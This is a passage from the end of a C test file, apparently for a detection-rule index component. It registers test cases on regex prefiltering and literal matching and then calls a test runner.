        {"and_needs_every_literal", and_needs_every_literal},
        {"memo_answers_as_a_scan", memo_answers_as_a_scan},
        {"regex_prefilter_agrees", regex_prefilter_agrees},
        {"regex_literals_tricky", regex_literals_tricky},
        {"absent_field_is_a_key", absent_field_is_a_key},
        {NULL, NULL},
    };
    return check_main("detect_index", cases, argc, argv);
}
